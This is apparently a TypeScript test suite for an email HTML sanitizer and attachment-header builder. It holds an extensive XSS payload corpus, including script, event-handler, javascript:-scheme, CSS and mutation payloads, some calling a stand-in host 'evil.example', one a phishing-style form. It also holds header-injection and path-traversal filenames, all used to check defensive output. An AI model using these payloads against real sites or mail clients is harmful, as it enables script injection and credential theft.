import assert from "node:assert/strict";
import { validateHeaderName, validateHeaderValue } from "node:http";
import fc from "fast-check";
import {
  attachmentHeaders,
  emailFrameDocument,
  emailFrameHeaders,
  filterStyle,
  safeFilename,
  type EmailFrameOptions,
} from "../../../src/web/render/emailFrame.js";
import { corpusAvailable, corpusFiles, corpusRoot, loadCorpusMail } from "../core/corpusMail.js";

const cidUrl = (cid: string) => `/api/cid/${encodeURIComponent(cid)}`;
const OFF: EmailFrameOptions = { remoteImages: false, cidUrl };
const ON: EmailFrameOptions = { remoteImages: true, cidUrl };

/** The message part of the frame document (what the sanitizer produced). */
function bodyOf(doc: string): string {
  const start = doc.indexOf("<body>\n");
  const end = doc.lastIndexOf("\n</body></html>");
  assert.ok(start > 0 && end > start, `not a frame document: ${doc.slice(0, 200)}`);
  return doc.slice(start + "<body>\n".length, end);
}

const render = (html: string, opts: EmailFrameOptions = OFF) => bodyOf(emailFrameDocument(html, opts));

// Written independently of the module's allowlist: what the test calls passive.
const PASSIVE_TAGS = new Set(
  (
    "p div span br hr wbr pre blockquote address center font h1 h2 h3 h4 h5 h6 section article aside header footer main nav " +
    "b i u s strike em strong small big sub sup mark code kbd samp tt var cite q abbr dfn del ins bdi bdo figure figcaption " +
    "ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td a img"
  ).split(" "),
);
const PASSIVE_ATTRIBUTES = new Set(
  (
    "style title dir lang align href target rel src alt width height data-blocked-src color size face border cellpadding " +
    "cellspacing bgcolor colspan rowspan valign span start type value"
  ).split(" "),
);
const IMAGE_SRC = /^(?:\/(?![/\\])|data:image\/(?:png|gif|jpeg|webp)[;,])/i;
const REMOTE = /^https?:\/\//i;

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(parseInt(d, 10)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/**
 * Fails unless `body` is passive markup: every "<" opens or closes a passive element (the sanitizer
 * escapes it in text and attribute values), attributes are passive ones, links are http(s)/mailto, and
 * images and CSS url()s load only same-origin paths, raster data: URLs, or (remoteImages) http(s).
 */
function assertInert(body: string, remoteImages = false): void {
  const pieces = body.split("<").slice(1);
  for (const piece of pieces) {
    const tag = /^\/?([a-z][a-z0-9]*)((?:\s[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/.exec(piece);
    assert.ok(tag, `not a plain tag: <${piece.slice(0, 80)}`);
    assert.ok(PASSIVE_TAGS.has(tag[1]!), `active element <${tag[1]}> in ${body}`);
    for (const attr of tag[2]!.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)) {
      const [, name, raw = ""] = attr;
      const value = decodeEntities(raw);
      assert.ok(PASSIVE_ATTRIBUTES.has(name!), `attribute ${name} on <${tag[1]}> in ${body}`);
      if (name === "href") assert.match(value, /^(?:https?:\/\/|mailto:)/i, body);
      const loadable = (url: string) => IMAGE_SRC.test(url) || (remoteImages && REMOTE.test(url));
      if (name === "src") assert.ok(loadable(value), `img src ${value}`);
      if (name === "style") {
        assert.doesNotMatch(value, /expression|javascript|vbscript|@import|behavior|binding|image-set|\\|[<>{}]/i, value);
        for (const url of value.matchAll(/url\(\s*"([^"]*)"\s*\)/gi)) assert.ok(loadable(url[1]!), `css url ${url[1]}`);
        assert.equal(value.match(/url\(/gi)?.length ?? 0, [...value.matchAll(/url\("[^"]*"\)/gi)].length, value);
      }
    }
  }
}

/** Classic and mutation XSS payloads; each must come out inert (the browser spec runs them in Chromium). */
const XSS: [string, string][] = [
  ["script element", `<script>alert(1)</script>`],
  ["script element, odd casing and attributes", `<ScRiPt type="text/javascript" src="http://evil.example/x.js"></sCrIpT>`],
  ["onerror", `<img src=x onerror=alert(1)>`],
  ["OnErRoR", `<IMG SRC=x OnErRoR="alert(1)">`],
  ["onerror on an image that stays (data:)", `<img src="data:image/png;base64,AAAA" onerror=alert(1)>`],
  ["onerror on an image that stays (cid:)", `<img src="cid:a@b" onerror=alert(1) alt=x>`],
  ["ONLOAD on body", `<body ONLOAD=alert(1)>`],
  ["onclick", `<div onclick="alert(1)">x</div>`],
  ["onmouseover unquoted with slash", `<p/onmouseover=alert(1)>x</p>`],
  ["ontoggle", `<details open ontoggle=alert(1)>`],
  ["onfocus autofocus", `<input autofocus onfocus=alert(1)>`],
  ["javascript: link", `<a href="javascript:alert(1)">x</a>`],
  ["JaVaScRiPt: link", `<a href="JaVaScRiPt:alert(1)">x</a>`],
  ["entity javascript:", `<a href="&#106;avascript:alert(1)">x</a>`],
  ["hex entities without semicolons", `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`],
  ["tab and newline in scheme", `<a href=" jav&#x09;ascr&#x0A;ipt:alert(1)">x</a>`],
  ["&colon;", `<a href="javascript&colon;alert(1)">x</a>`],
  ["vbscript:", `<a href="vbscript:msgbox(1)">x</a>`],
  ["data:text/html link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ["data:text/html img", `<img src="data:text/html,<script>alert(1)</script>">`],
  ["data:image/svg+xml img", `<img src="data:image/svg+xml,<svg onload=alert(1)>">`],
  ["svg onload", `<svg onload=alert(1)>`],
  ["svg script", `<svg><script>alert(1)</script></svg>`],
  ["svg animate href", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`],
  ["svg use external", `<svg><use href="http://evil.example/x.svg#a"/></svg>`],
  ["math mglyph style mutation", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
  ["math mtext comment mutation", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`],
  ["math href", `<math href="javascript:alert(1)">x</math>`],
  ["css expression()", `<div style="width: expression(alert(1))">x</div>`],
  ["css url(javascript:)", `<div style="background:url(javascript:alert(1))">x</div>`],
  ["css escaped expression", `<div style="width: ex\\70 ression(alert(1))">x</div>`],
  ["css escaped url()", `<div style="background: \\75 rl(http://evil.example/x)">x</div>`],
  ["css comment-split expression", `<div style="width: expr/**/ession(alert(1))">x</div>`],
  ["css behavior", `<div style="behavior: url(x.htc)">x</div>`],
  ["css -moz-binding", `<div style="-moz-binding: url(http://evil.example/x.xml#x)">x</div>`],
  ["css image-set", `<div style='background-image: image-set("http://evil.example/x" 1x)'>x</div>`],
  ["css breaking out of the attribute", `<div style="color:red;}</style><script>alert(1)</script>">x</div>`],
  ["style element", `<style>@import "http://evil.example/x.css"; body{background:url(http://evil.example/y)}</style>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
  ["meta set-cookie", `<meta http-equiv="Set-Cookie" content="a=b">`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["iframe src", `<iframe src="javascript:alert(1)"></iframe>`],
  ["frameset", `<frameset><frame src="javascript:alert(1)"></frameset>`],
  ["form action", `<form action="http://evil.example/steal"><input name=password><button>Log in</button></form>`],
  ["button formaction", `<form><button formaction="javascript:alert(1)">x</button></form>`],
  ["input type=image", `<input type=image src="http://evil.example/x">`],
  ["base href", `<base href="http://evil.example/"><img src="x.png">`],
  ["object", `<object data="data:text/html,<script>alert(1)</script>"></object>`],
  ["embed", `<embed src="javascript:alert(1)">`],
  ["applet", `<applet code="x.class"></applet>`],
  ["link import", `<link rel=import href="http://evil.example/x.html">`],
  ["link stylesheet", `<link rel=stylesheet href="http://evil.example/x.css">`],
  ["link prefetch", `<link rel=prefetch href="http://evil.example/p">`],
  ["malformed double open", `<<script>alert(1)//<</script>`],
  ["unclosed script", `<script>alert(1)`],
  ["eval(src) with alt", `<img src=x:alert(alt) onerror=eval(src) alt=0>`],
  ["comment", `<!--<img src=x onerror=alert(1)>-->`],
  ["empty comment <!-->", `<!--><img src=x onerror=alert(1)>-->`],
  ["CDATA", `<![CDATA[><img src=x onerror=alert(1)>]]>`],
  ["conditional comment", `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`],
  ["noscript title breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["xmp breakout", `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`],
  ["noembed breakout", `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`],
  ["textarea breakout", `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`],
  ["title breakout", `<title><p title="</title><img src=x onerror=alert(1)>"></title>`],
  ["template", `<template><img src=x onerror=alert(1)></template>`],
  ["attribute without quotes smuggling a tag", `<a title=x<img/src/onerror=alert(1)>y</a>`],
  ["srcset", `<img srcset="http://evil.example/x 1x">`],
  ["table background", `<table background="http://evil.example/bg"><tr><td background="http://evil.example/td">x</td></tr></table>`],
  ["video poster", `<video poster="http://evil.example/p"><source src="http://evil.example/v"></video>`],
  ["a ping", `<a href="https://ok.example/" ping="http://evil.example/ping">x</a>`],
  ["protocol-relative img", `<img src="//evil.example/x.gif">`],
  ["backslash protocol-relative img", `<img src="/\\evil.example/x.gif">`],
  ["relative href (GET to our own origin)", `<a href="/api/drafts/1/approve">approve</a>`],
  ["relative img (GET to our own origin)", `<img src="/api/drafts/1/approve">`],
  ["marquee onstart", `<marquee onstart=alert(1)>x</marquee>`],
  ["isindex", `<isindex action="javascript:alert(1)" type=image>`],
  ["xlink:href", `<a xlink:href="javascript:alert(1)">x</a>`],
  ["formaction outside a form", `<button formaction="javascript:alert(1)">x</button>`],
  ["srcdoc on a div", `<div srcdoc="<script>alert(1)</script>">x</div>`],
  ["dangling markup", `<img src='http://evil.example/?`],
];

describe("emailFrameDocument", () => {
  describe("XSS corpus: every payload comes out inert", () => {
    for (const [name, html] of XSS) {
      it(name, () => {
        for (const opts of [OFF, ON]) assertInert(render(html, opts), opts.remoteImages);
      });
    }
  });

  it("keeps an inert body for any mix of the corpus with ordinary markup (property)", () => {
    const fragment = fc.oneof(
      fc.constantFrom(...XSS.map(([, html]) => html)),
      fc.constantFrom(
        "<p>",
        "</p>",
        "<b>x</b>",
        "<table><tr><td>",
        "</td></tr></table>",
        '<a href="https://ok.example/">',
        "</a>",
        "<",
        ">",
        '"',
        "'",
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 8 }), fc.boolean(), (parts, remoteImages) => {
        assertInert(render(parts.join(""), { remoteImages, cidUrl }), remoteImages);
      }),
      { numRuns: 300 },
    );
  });

  it("returns a complete document whose head the message cannot change", () => {
    const empty = emailFrameDocument("", OFF);
    const head = empty.slice(0, empty.indexOf("<body>"));
    assert.match(head, /^<!doctype html>\n<html><head>\n<meta charset="utf-8">/);
    assert.match(head, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src 'self' data:; /);
    assert.match(head, /<base target="_blank">/);
    for (const [, html] of XSS) assert.ok(emailFrameDocument(html, OFF).startsWith(head + "<body>\n"), html);
    assert.match(emailFrameDocument("", ON), /img-src 'self' data: https: http:;/);
  });

  it("keeps ordinary email formatting", () => {
    const html =
      `<table width="600" cellpadding="0" style="border-collapse:collapse"><tr><td align="center" style="color:#333;font-family:'Helvetica Neue',Arial">` +
      `<h1>Hello</h1><p style="margin:0 0 8px;color:rgb(10, 20, 30)">Your <b>order</b> shipped.</p><ul><li>one</li></ul></td></tr></table>`;
    assert.equal(
      render(html),
      `<table width="600" cellpadding="0" style="border-collapse:collapse"><tr><td align="center" style="color:#333;font-family:'Helvetica Neue',Arial">` +
        `<h1>Hello</h1><p style="margin:0 0 8px;color:rgb(10, 20, 30)">Your <b>order</b> shipped.</p><ul><li>one</li></ul></td></tr></table>`,
    );
  });

  it("makes links open in a new tab without opener or referrer", () => {
    assert.equal(
      render(`<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a> <a href="mailto:ann@example.org">mail</a>`),
      `<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a> ` +
        `<a href="mailto:ann@example.org" target="_blank" rel="noopener noreferrer nofollow">mail</a>`,
    );
    assert.equal(render(`<a href="#top">top</a><a href="page.html">rel</a>`), "<a>top</a><a>rel</a>");
  });

  describe("remote images", () => {
    const tracker = `<img src="https://tracker.example/open.gif?u=1" alt="Logo" width="1">`;

    it("are blocked by default, keeping the alt text and the blocked address", () => {
      assert.equal(render(tracker), `<img alt="Logo" width="1" data-blocked-src="https://tracker.example/open.gif?u=1" />`);
      assert.equal(render(`<img src="http://tracker.example/x.gif">`), `<img data-blocked-src="http://tracker.example/x.gif" alt="" />`);
    });

    it("load when remoteImages is on", () => {
      assert.equal(render(tracker, ON), `<img alt="Logo" width="1" src="https://tracker.example/open.gif?u=1" />`);
    });

    it("in inline CSS are dropped by default and kept when remoteImages is on", () => {
      const html = `<td style="color:red;background-image:url('https://cdn.example/bg.png')">x</td>`;
      assert.equal(render(`<table><tr>${html}</tr></table>`), `<table><tr><td style="color:red">x</td></tr></table>`);
      assert.equal(
        render(`<table><tr>${html}</tr></table>`, ON),
        `<table><tr><td style="color:red;background-image:url(&quot;https://cdn.example/bg.png&quot;)">x</td></tr></table>`,
      );
    });

    it("keep raster data: images and drop other data: types", () => {
      assert.equal(render(`<img src="data:image/png;base64,iVBORw0KGgo=">`), `<img src="data:image/png;base64,iVBORw0KGgo=" />`);
      for (const type of ["image/svg+xml", "text/html", "application/xhtml+xml", "image/png;charset=x,<svg"])
        assert.equal(render(`<img src="data:${type};base64,PHN2Zz4=">`), "", type);
    });
  });

  describe("cid: images", () => {
    it("are rewritten through cidUrl, percent-decoded, with or without angle brackets", () => {
      const seen: string[] = [];
      const opts = { remoteImages: false, cidUrl: (cid: string) => (seen.push(cid), `/api/cid/${seen.length}`) };
      assert.equal(
        render(`<img src="cid:logo@example.com" alt=l><img src="CID:a%20b%40c"><img src="cid:%3Cx@y%3E">`, opts),
        `<img alt="l" src="/api/cid/1" /><img src="/api/cid/2" /><img src="/api/cid/3" />`,
      );
      assert.deepEqual(seen, ["logo@example.com", "a b@c", "x@y"]);
    });

    it("keep Content-IDs with parentheses or quotes, encoded by cidUrl", () => {
      assert.equal(render(`<img src="cid:a(1)'b">`), `<img src="/api/cid/a(1)'b" />`);
      assert.equal(render(`<img src='cid:a"b'>`), `<img src="/api/cid/a%22b" />`);
    });

    it("are removed when the message has no such part", () => {
      assert.equal(render(`<p><img src="cid:nope@x"></p>`, { remoteImages: true, cidUrl: () => null }), "<p></p>");
    });

    it("are removed when cidUrl returns anything but a same-origin path", () => {
      for (const bad of [
        "javascript:alert(1)",
        "//evil.example/x",
        "/\\evil.example/x",
        '/a"b',
        "https://evil.example/x",
        'x" onerror="alert(1)',
        "/a b",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html,<script>alert(1)</script>",
        "data:image/png;base64,<x>",
      ]) {
        assert.equal(render(`<img src="cid:a">`, { remoteImages: true, cidUrl: () => bad }), "", bad);
      }
    });

    it("may be inlined as raster data: URLs by cidUrl", () => {
      const png = "data:image/png;base64,iVBORw0KGgo=";
      assert.equal(render(`<img src="cid:a">`, { remoteImages: false, cidUrl: () => png }), `<img src="${png}" />`);
      assert.equal(
        render(`<div style="background:url(cid:a)">x</div>`, { remoteImages: false, cidUrl: () => png }),
        `<div style="background:url(&quot;${png}&quot;)">x</div>`,
      );
    });

    it("in inline CSS are rewritten too", () => {
      assert.equal(
        render(`<div style="background:url(cid:bg@x) no-repeat">x</div>`),
        `<div style="background:url(&quot;/api/cid/bg%40x&quot;) no-repeat">x</div>`,
      );
    });
  });

  describe("real mail from ../shared/corpus", () => {
    it("renders every HTML message inert, keeping its text", async function () {
      // As in spec/unit/core/corpus.spec.ts: the corpus is part of the test set, so its absence fails.
      assert.ok(corpusAvailable, `the shared corpus is missing at ${corpusRoot}; this test runs on it`);
      let rendered = 0;
      for (const file of corpusFiles(".", /\.(eml|raw|msg)$/)) {
        const html = await loadCorpusMail(file).then(
          (m) => m.message.html,
          () => null,
        );
        if (!html) continue;
        for (const opts of [OFF, ON]) {
          const body = render(html, opts);
          assertInert(body, opts.remoteImages);
          const words = (s: string) => s.replace(/<[^>]*>/g, " ").match(/[A-Za-z]{4,}/g) ?? [];
          if (words(html).length > 0) assert.ok(words(body).length > 0, `${file}: the text was lost`);
        }
        rendered++;
      }
      assert.ok(rendered > 20, `only ${rendered} HTML messages in the corpus`);
    });
  });
});

describe("filterStyle", () => {
  const cidOnly = (url: string) => (url.startsWith("cid:") ? "/cid/x" : null);
  const cases: [string, string][] = [
    ["color: red; font-weight: bold", "color: red; font-weight: bold"],
    ["COLOR:Red!important", "color: Red!important"],
    ["margin: calc(1px + 2%) 0", "margin: calc(1px + 2%) 0"],
    ["font-family: '\\5FAE\\8F6F\\96C5\\9ED1', Arial", "font-family: '微软雅黑', Arial"],
    ["background: url(cid:a) no-repeat", 'background: url("/cid/x") no-repeat'],
    ["background: url(http://x.example/a.png); color: red", "color: red"],
    ["color: red; width: expression(alert(1))", "color: red"],
    ["color: red; width: ex\\70 ression(alert(1))", ""],
    ["background: \\75 rl(http://x.example/)", ""],
    ["color: red /* a ; b */; x: y", "color: red; x: y"],
    ["color: red; background: url(javascript:alert(1))", "color: red"],
    ["color: red; background-image: -webkit-image-set('http://x.example/' 1x)", "color: red"],
    ["color: red; content: attr(title)", "color: red"],
    ["color: red; --x: url(http://x.example/)", "color: red"],
    ["color: red; width: var(--x)", "color: red"],
    ["color: red; behavior: url(cid:a)", "color: red"],
    ["color: red; font-family: 'a;b'", "color: red; font-family: 'a;b'"],
    ["color: 'unterminated", ""],
    ["color: red; width: (1px", ""],
    ["color: red; x: a@b", "color: red"],
    ["color: red; x: <b>", "color: red"],
    ["color: red; x: {}", "color: red"],
  ];
  for (const [input, output] of cases) {
    it(`${JSON.stringify(input)} → ${JSON.stringify(output)}`, () => assert.equal(filterStyle(input, cidOnly), output));
  }
});

describe("emailFrameHeaders", () => {
  const csp = (h: Record<string, string>) =>
    new Map(h["Content-Security-Policy"]!.split(/\s*;\s*/).map((d) => [d.split(" ")[0]!, d] as const));

  it("sends a sandboxing CSP without scripts, remote loads, forms or base changes", () => {
    const h = emailFrameHeaders({ remoteImages: false });
    const d = csp(h);
    assert.equal(d.get("default-src"), "default-src 'none'");
    assert.equal(d.get("img-src"), "img-src 'self' data:");
    assert.equal(d.get("style-src"), "style-src 'unsafe-inline'");
    assert.equal(d.get("form-action"), "form-action 'none'");
    assert.equal(d.get("base-uri"), "base-uri 'none'");
    assert.equal(d.get("frame-ancestors"), "frame-ancestors 'self'");
    assert.equal(d.get("sandbox"), "sandbox allow-popups allow-popups-to-escape-sandbox");
    assert.equal(d.has("script-src"), false);
    assert.equal(h["Content-Type"], "text/html; charset=utf-8");
    assert.equal(h["X-Content-Type-Options"], "nosniff");
    assert.equal(h["Referrer-Policy"], "no-referrer");
    assert.equal(h["Cache-Control"], "private, no-store");
  });

  it("allows http(s) images only with remoteImages", () => {
    assert.equal(csp(emailFrameHeaders({ remoteImages: true })).get("img-src"), "img-src 'self' data: https: http:");
  });
});

describe("attachmentHeaders", () => {
  const headers = (filename: string | null, contentType = "application/pdf", size = 10) =>
    attachmentHeaders({ filename, contentType, size });

  const filenames: [string | null, string, string][] = [
    ["report.pdf", `filename="report.pdf"`, "filename*=UTF-8''report.pdf"],
    ["../../x.html\r\nSet-Cookie: a=b", `filename="x.htmlSet-Cookie: a=b"`, "filename*=UTF-8''x.htmlSet-Cookie%3A%20a%3Db"],
    ["C:\\Windows\\system32\\evil.exe", `filename="evil.exe"`, "filename*=UTF-8''evil.exe"],
    ['a"; filename=evil.html; x="', `filename="a; filename=evil.html; x="`, "filename*=UTF-8''a%3B%20filename%3Devil.html%3B%20x%3D"],
    ["Rechnung März €.pdf", `filename="Rechnung M_rz _.pdf"`, "filename*=UTF-8''Rechnung%20M%C3%A4rz%20%E2%82%AC.pdf"],
    ["invoice\u202Efdp.exe", `filename="invoicefdp.exe"`, "filename*=UTF-8''invoicefdp.exe"],
    ["100%.txt", `filename="100_.txt"`, "filename*=UTF-8''100%25.txt"],
    ["it's (1)*.txt", `filename="it's (1)*.txt"`, "filename*=UTF-8''it%27s%20%281%29%2A.txt"],
    ["..", `filename="attachment"`, "filename*=UTF-8''attachment"],
    [".htaccess", `filename="htaccess"`, "filename*=UTF-8''htaccess"],
    ["\u0000\u0007", `filename="attachment"`, "filename*=UTF-8''attachment"],
    [null, `filename="attachment"`, "filename*=UTF-8''attachment"],
    ["half\ud800.txt", `filename="half_.txt"`, "filename*=UTF-8''half%EF%BF%BD.txt"],
  ];
  for (const [name, fallback, extended] of filenames) {
    it(`makes ${JSON.stringify(name)} a harmless download name`, () => {
      assert.equal(headers(name)["Content-Disposition"], `attachment; ${fallback}; ${extended}`);
    });
  }

  const types: [string, string][] = [
    ["application/pdf", "application/pdf"],
    ["IMAGE/PNG", "image/png"],
    ["image/jpeg; name=x.jpg", "image/jpeg"],
    ["image/gif", "image/gif"],
    ["image/webp", "image/webp"],
    ["text/plain", "text/plain; charset=utf-8"],
    ['text/plain; charset="ISO-8859-1"', "text/plain; charset=iso-8859-1"],
    ["text/plain; charset=x\r\nSet-Cookie: a", "application/octet-stream"],
    ["text/plain; charset=<script>", "text/plain; charset=utf-8"],
    ["text/html", "application/octet-stream"],
    ["text/html; charset=utf-8", "application/octet-stream"],
    ["image/svg+xml", "application/octet-stream"],
    ["application/xhtml+xml", "application/octet-stream"],
    ["text/xml", "application/octet-stream"],
    ["application/xml", "application/octet-stream"],
    ["application/javascript", "application/octet-stream"],
    ["text/javascript", "application/octet-stream"],
    ["multipart/x-mixed-replace; boundary=x", "application/octet-stream"],
    ["message/rfc822", "application/octet-stream"],
    ["application/x-shockwave-flash", "application/octet-stream"],
    ["image/png, text/html", "application/octet-stream"],
    ["", "application/octet-stream"],
    ["garbage", "application/octet-stream"],
  ];
  for (const [input, output] of types) {
    it(`sends ${JSON.stringify(input)} as ${output}`, () => assert.equal(headers("f", input)["Content-Type"], output));
  }

  it("always downloads, never sniffs, never renders, never caches", () => {
    const h = headers("x.html", "text/html", 1234);
    assert.equal(h["Content-Length"], "1234");
    assert.equal(h["X-Content-Type-Options"], "nosniff");
    assert.equal(h["Content-Security-Policy"], "default-src 'none'; sandbox");
    assert.equal(h["Cache-Control"], "private, no-store");
    assert.match(h["Content-Disposition"]!, /^attachment;/);
    // Nothing that would stop the review page from showing an inline part in its (opaque-origin) frame.
    assert.equal(h["Cross-Origin-Resource-Policy"], undefined);
  });

  it("gives header values Node accepts, for any file name and type (property)", () => {
    fc.assert(
      fc.property(
        fc.option(fc.string({ unit: "binary", maxLength: 300 })),
        fc.string({ maxLength: 80 }),
        fc.nat(),
        (filename, contentType, size) => {
          for (const [name, value] of Object.entries(attachmentHeaders({ filename, contentType, size }))) {
            validateHeaderName(name);
            validateHeaderValue(name, value);
            assert.match(value, /^[\x20-\x7e]*$/, `${name}: ${value}`);
          }
          const safe = safeFilename(filename);
          // eslint-disable-next-line no-control-regex
          assert.doesNotMatch(safe, /[/\\"\u0000-\u001f\u007f\u202e]|^\.|[.\s]$/, safe);
        },
      ),
      { numRuns: 500 },
    );
  });
});
